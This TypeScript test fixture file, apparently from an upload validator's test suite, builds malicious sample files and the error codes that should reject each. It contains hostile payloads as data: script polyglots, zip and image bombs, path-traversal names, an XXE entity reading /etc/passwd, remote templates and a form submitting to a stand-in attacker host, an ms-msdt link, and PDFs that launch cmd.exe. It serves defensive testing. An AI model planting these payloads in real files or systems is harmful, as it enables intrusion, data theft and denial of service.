import sharp from "sharp";
import { activeDocs } from "./attack-docs.ts";
import { activePdfs, objectStreamOf } from "./attack-pdfs.ts";
import { activeWord, linking } from "./attack-word.ts";
import { compoundOf, docOf, docxOf, pdfOf, zipOf } from "../files.ts";

const picture = { create: { width: 40, height: 20, channels: 3 as const, background: "#3456c4" } };
export const png = await sharp(picture).png().toBuffer();
export const hugePng = await sharp({ create: { ...picture.create, width: 8000, height: 7000 } })
  .png()
  .toBuffer();
/** A photograph with GPS data and a script in its metadata. */
export const jpeg = await sharp(picture)
  .jpeg()
  .withMetadata({
    orientation: 6,
    exif: { IFD0: { ImageDescription: "<script>alert(1)</script>" }, IFD3: { GPSLatitude: "59/1 19/1 0/1" } },
  })
  .toBuffer();
export const gpsTag = Buffer.from([0x25, 0x88, 0x04, 0x00]);
/** Files that would run scripts if served as a page. */
export const script = "<script>alert(document.domain)</script>";

/** Malicious files, and the error code that refuses each. */
export const refused: [what: string, fileName: string, data: string | Buffer, code: string][] = [
  ["1 a page that calls itself PDF", "protokoll.pdf", `<html>${script}</html>`, "FILE_CONTENT"],
  ["1b a page after the first bytes of a PDF", "protokoll.pdf", `%PDF-1.4\n<html>${script}</html>`, "FILE_CONTENT"],
  ["2 a PDF too far behind other bytes", "protokoll.pdf", Buffer.concat([Buffer.alloc(1025), pdfOf()]), "FILE_CONTENT"],
  ["3 a GIF that is a script too", "bild.gif", "GIF89a/*…*/=1;alert(1)", "FILE_TYPE"],
  ["4 a GIF with a PNG's name", "bild.png", "GIF89a/*…*/=1;alert(1)", "FILE_CONTENT"],
  ["5 an SVG with a PNG's name", "bild.png", `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`, "FILE_CONTENT"],
  ["6 a name with two endings", "x.pdf.html", pdfOf(), "FILE_TYPE"],
  ["7 a name with %00 and a page inside", "x.html%00.pdf", script, "FILE_CONTENT"],
  ["8 a path for a name", "../../x", "x", "FILE_TYPE"],
  ["9 nothing", "tom.pdf", "", "FILE_EMPTY"],
  ["10 a PNG that is larger than its bytes", "bomb.png", hugePng, "IMAGE_TOO_LARGE"],
  ["11 a PNG that says it is 50,000 by 50,000", "bomb.png", claiming(png, 50_000, 50_000), "IMAGE_TOO_LARGE"],
  ["12 half a picture", "halv.png", png.subarray(0, png.length - 60), "FILE_CONTENT"],
  [
    "13 a zip bomb",
    "bomb.docx",
    docxOf([{ name: "word/media/a.xml", data: "x", claimed: 250 * 1024 * 1024 }]),
    "FILE_CONTENT",
  ],
  [
    "14 more parts than a document has",
    "bomb.docx",
    docxOf(Array.from({ length: 2001 }, (_, index) => ({ name: `word/${index}.xml` }))),
    "FILE_CONTENT",
  ],
  ["15 macros with a docx's name", "makro.docx", docxOf([{ name: "word/vbaProject.bin", data: "x" }]), "FILE_MACROS"],
  [
    "16 a docm with a docx's name",
    "makro.docx",
    docxOf([], { mainType: "application/vnd.ms-word.document.macroEnabled.main+xml" }),
    "FILE_MACROS",
  ],
  [
    "17 an archive in the archive",
    "nested.docx",
    docxOf([{ name: "word/embeddings/a.zip", data: zipOf([]) }]),
    "FILE_ACTIVE",
  ],
  ["18 a zip that is no document", "arkiv.docx", zipOf([{ name: "a.txt", data: "hej" }]), "FILE_CONTENT"],
  ["19 parts with paths that lead out", "ut.docx", docxOf([{ name: "../../etc/cron.d/x", data: "x" }]), "FILE_CONTENT"],
  ["20 a part that is encrypted", "last.docx", docxOf([{ name: "word/a.xml", data: "x", flags: 1 }]), "FILE_CONTENT"],
  [
    "21 an entity that reads files, in the list of contents",
    "xxe.docx",
    zipOf([
      {
        name: "[Content_Types].xml",
        data: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><Types ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
      },
      { name: "word/document.xml", data: "&b;" },
    ]),
    "FILE_CONTENT",
  ],
  [
    "22 a program as text",
    "program.txt",
    Buffer.from("MZ\u0090\u0000\u0003\u0000\u0000\u0000", "latin1"),
    "FILE_CONTENT",
  ],
  ["23 UTF-16 without a mark", "brev.txt", Buffer.from("hej på dig", "utf16le"), "FILE_CONTENT"],
  ["24 bytes that are no text", "brev.txt", Buffer.from([0x68, 0xe5, 0x6a, 0x81]), "FILE_CONTENT"],
  ["25 an installer as an old document", "program.doc", compoundOf({ MsiPackage: Buffer.alloc(4096) }), "FILE_ACTIVE"],
  ["26 an old document with macros", "makro.doc", docOf(["Macros/VBA/_VBA_PROJECT"]), "FILE_MACROS"],
  ["27 a page that calls itself an old document", "sida.doc", `<html>${script}</html>`, "FILE_CONTENT"],
  [
    "34 a template on another machine",
    "mall.docx",
    linking("attachedTemplate", "https://angripare.example/mall.dotm"),
    "FILE_ACTIVE",
  ],
  [
    "35 a template on another machine's share",
    "mall.docx",
    linking("attachedTemplate", "file://\\\\angripare.example\\mall.dotm"),
    "FILE_ACTIVE",
  ],
  [
    "36 a template whose mode is written in character references",
    "mall.docx",
    linking("attachedTemplate", "https://angripare.example/m.dotm", "&#x45;xternal"),
    "FILE_ACTIVE",
  ],
  [
    "37 a picture that is fetched when the document opens",
    "bild.docx",
    linking("image", "https://angripare.example/spana.png"),
    "FILE_ACTIVE",
  ],
  ["38 an OLE object", "ole.docx", docxOf([{ name: "word/embeddings/oleObject1.bin", data: "x" }]), "FILE_ACTIVE"],
  [
    "39 a relationship to an OLE object under another name",
    "ole.docx",
    linking("oleObject", "media/bild.png", "Internal"),
    "FILE_ACTIVE",
  ],
  [
    "40 a workbook with macros",
    "bok.docx",
    docxOf([{ name: "word/embeddings/Microsoft_Excel_Sheet1.xlsm", data: "x" }]),
    "FILE_ACTIVE",
  ],
  ["41 a page taken in by altChunk", "sida.docx", linking("aFChunk", "afchunk.txt", "Internal"), "FILE_ACTIVE"],
  ["42 a page among the parts", "sida.docx", docxOf([{ name: "word/afchunk.mht", data: script }]), "FILE_ACTIVE"],
  ["43 an ActiveX control", "knapp.docx", linking("control", "activeX/activeX1.xml", "Internal"), "FILE_ACTIVE"],
  ["44 a link that opens a program", "fil.docx", linking("hyperlink", "ms-msdt:/id PCWDiagnostic"), "FILE_ACTIVE"],
  [
    "45 relationships behind a document type",
    "dtd.docx",
    docxOf([
      {
        name: "word/_rels/a.xml.rels",
        data: '<!DOCTYPE a [<!ENTITY x "External">]><Relationships><Relationship TargetMode="&x;"/></Relationships>',
      },
    ]),
    "FILE_CONTENT",
  ],
  [
    "46 relationships in UTF-16",
    "utf16.docx",
    docxOf([{ name: "word/_rels/a.xml.rels", data: Buffer.from("\ufeff<Relationships/>", "utf16le") }]),
    "FILE_CONTENT",
  ],
  ["58 a link to a file beside the document", "bredvid.docx", linking("hyperlink", "plan.docx"), "FILE_ACTIVE"],
  [
    "47 a PDF that runs a script when it opens",
    "skript.pdf",
    pdfOf("", { catalog: "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>" }),
    "FILE_ACTIVE",
  ],
  [
    "48 a PDF that starts a program",
    "starta.pdf",
    pdfOf("", { catalog: "/OpenAction<</S/Launch/F(cmd.exe)>>" }),
    "FILE_ACTIVE",
  ],
  [
    "49 the same, spelled in hexadecimal",
    "starta.pdf",
    pdfOf("", { catalog: "/OpenAction << /S /L#61un#63h /F (cmd.exe) >>" }),
    "FILE_ACTIVE",
  ],
  [
    "50 a script in a compressed object stream",
    "gomt.pdf",
    pdfOf(objectStreamOf("5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"), { catalog: "/OpenAction 5 0 R" }),
    "FILE_ACTIVE",
  ],
  [
    "51 an object stream whose own name is escaped",
    "gomt.pdf",
    pdfOf(objectStreamOf("5 0 << /S /Launch >>", { type: "/Obj#53tm" }), { catalog: "/OpenAction 5 0 R" }),
    "FILE_ACTIVE",
  ],
  [
    "52 an object stream packed twice",
    "dubbel.pdf",
    pdfOf(objectStreamOf("5 0 << /S /Launch >>", { filter: "[/ASCIIHexDecode /FlateDecode]" })),
    "FILE_CONTENT",
  ],
  [
    "53 an object stream that nobody can look into",
    "last.pdf",
    pdfOf(objectStreamOf("5 0 << >>"), { trailer: "/Encrypt 9 0 R" }),
    "FILE_ACTIVE",
  ],
  [
    "54 an object stream that unpacks to more than a document holds",
    "bomb.pdf",
    pdfOf(objectStreamOf(" ".repeat(80 * 1024 * 1024))),
    "FILE_CONTENT",
  ],
  [
    "55 a file inside a PDF",
    "bilaga.pdf",
    pdfOf("", { catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>" }),
    "FILE_ACTIVE",
  ],
  [
    "56 a form that sends itself away",
    "formular.pdf",
    pdfOf("", { catalog: "/AA << /O << /S /SubmitForm /F (https://angripare.example) >> >>" }),
    "FILE_ACTIVE",
  ],
  ["57 a program packed into an old document", "paket.doc", docOf(["ObjectPool/_1/\u0001Ole10Native"]), "FILE_ACTIVE"],
  ...activePdfs,
  ...activeWord,
  ...activeDocs,
];

export const inert: [what: string, fileName: string, data: string | Buffer, type: string][] = [
  ["28 a PDF that is a page too", "dubbel.pdf", pdfOf(`\n<html>${script}</html>`), "application/pdf"],
  [
    "29 a PDF that opens at a page, with a link to a page about JavaScript",
    "lank.pdf",
    pdfOf("", { catalog: "/OpenAction [3 0 R /Fit] /URI (https://example.se/Web/JavaScript)" }),
    "application/pdf",
  ],
  ["30 a PDF that is encrypted", "last.pdf", pdfOf("", { trailer: "/Encrypt 9 0 R" }), "application/pdf"],
  [
    "2b a PDF behind other bytes",
    "protokoll.pdf",
    Buffer.concat([Buffer.from(`${script}\n`), pdfOf()]),
    "application/pdf",
  ],
  ["31 text that is a page", "sida.txt", `<html>${script}</html>`, "text/plain; charset=utf-8"],
  ["32 text in UTF-7", "utf7.txt", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/plain; charset=utf-8"],
  [
    "33 a picture of 1 by 65,000 points",
    "remsa.png",
    await sharp({ create: { width: 1, height: 65_000, channels: 3, background: "#fff" } })
      .png()
      .toBuffer(),
    "image/png",
  ],
];

/** Ordinary Word documents: with links, a template and a chart's workbook. */
export const ordinaryDocuments: [what: string, data: Buffer][] = [
  ["links", linking("hyperlink", "https://example.se/a?b=1&amp;c=2")],
  ["a template on the own disk", linking("attachedTemplate", "file:///C:\\Users\\anna\\Mallar\\Brev.dotx")],
  ["a picture in the document", linking("image", "media/image1.png", "Internal")],
  [
    "a chart",
    docxOf(
      [
        { name: "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data: "x" },
        { name: "word/printerSettings/printerSettings1.bin", data: "x" },
      ],
      {
        types: {
          "word/printerSettings/printerSettings1.bin":
            "application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings",
        },
      },
    ),
  ],
];

export function claiming(bytes: Buffer, width: number, height: number): Buffer {
  const lying = Buffer.from(bytes);
  lying.writeUInt32BE(width, 16);
  lying.writeUInt32BE(height, 20);
  return lying;
}
